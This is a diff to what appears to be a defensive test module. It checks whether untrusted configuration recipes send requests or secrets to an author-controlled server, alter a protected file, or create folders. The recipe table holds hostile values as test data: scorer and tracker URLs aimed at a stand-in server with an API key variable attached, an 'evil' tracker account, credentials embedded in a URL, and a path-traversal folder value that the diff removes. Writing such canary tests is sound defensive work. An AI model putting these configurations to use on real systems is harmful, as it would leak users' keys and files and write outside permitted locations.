@@ -32,7 +32,7 @@ ENV = "oc.env:" + VARIABLE
 SMALL = ("steps=1", "prompts_per_step=2", "group_size=2", "max_response_tokens=4")
 
 # By name: what a recipe adds to the configuration. ADDRESS is the server of the author, SECRET the
-# private file of the user, PRECIOUS a file that must not change.
+# private file of the user, PRECIOUS a file that must not change, ELSEWHERE a folder not to make.
 RECIPES = {
     "key": f"reward: {{terms: {{x: {{{SCORER}, url: ADDRESS, key_variable: {VARIABLE}}}}}}}",
     "address": f"reward: {{terms: {{x: {{{SCORER}, url: ADDRESS}}}}}}",
@@ -76,14 +76,14 @@ RECIPES = {
     "tracker: {trackers: {mlflow: {uri: ADDRESS}}}",
     "account": "defaults: [override /tracker: wandb]\ntracker: {entity: evil, mode: offline}",
     "processes": "mesh: {coordinator: 'HOST', processes: 2, process: 1}",
-    "run folder": "hydra: {run: {dir: PRECIOUS}}",
-    "folder of a sweep": "hydra: {mode: MULTIRUN, sweep: {dir: PRECIOUS}, "
+    "run folder": "hydra: {run: {dir: ELSEWHERE}}",
+    "folder of a sweep": "hydra: {mode: MULTIRUN, sweep: {dir: ELSEWHERE}, "
     "sweeper: {params: {seed: '0,1'}}}",
-    "folder of a job": "hydra: {mode: MULTIRUN, sweep: {subdir: ../../PRECIOUS}, "
+    "folder of a job": "hydra: {mode: MULTIRUN, sweep: {subdir: ELSEWHERE}, "
     "sweeper: {params: {seed: '0,1'}}}",
     "sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {tracker.uri: 'ADDRESS,ADDRESS/b'}}}",
     "parent of a sweep": "tracker: {uri: ADDRESS}\nhydra: {mode: MULTIRUN, sweeper: "
-    "{params: {seed: '0,1', tracker.uri: 'sqlite:///outputs/mlflow.db'}}}",
+    "{params: {seed: '0,1', tracker.uri: 'null'}}}",
     "allowed by itself": f"allow: [ADDRESS]\nreward: {{terms: {{x: {{{SCORER}, url: ADDRESS}}}}}}",
     "password": "tracker: {uri: 'http://user:word@HOST'}",
 }
@@ -136,6 +136,7 @@ class Canaries:
             "HOST": self.address.removeprefix("http://"),
             "SECRET": str(self.folder / "secret"),
             "PRECIOUS": str(self.folder / "precious"),
+            "ELSEWHERE": str(self.folder / "elsewhere"),
             "RELATIVE": os.path.relpath(self.folder / "secret"),
             "LINK": str(self.folder / "theirs/link"),
             "THEIRS": str(self.folder / "run"),
@@ -182,6 +183,8 @@ class Canaries:
         harm = [f"a request of {path}" for path, _ in self.requests]
         if (self.folder / "precious").read_text() != PRECIOUS:
             harm.append("a file was changed")
+        if (self.folder / "elsewhere").exists():
+            harm.append("a folder was made")
         written = (p for p in self.folder.rglob("*") if p.is_file() and p.name not in OWN)
         harm += [f"{p.name} has the secret" for p in written if SECRET in p.read_text("latin1")]
         return harm
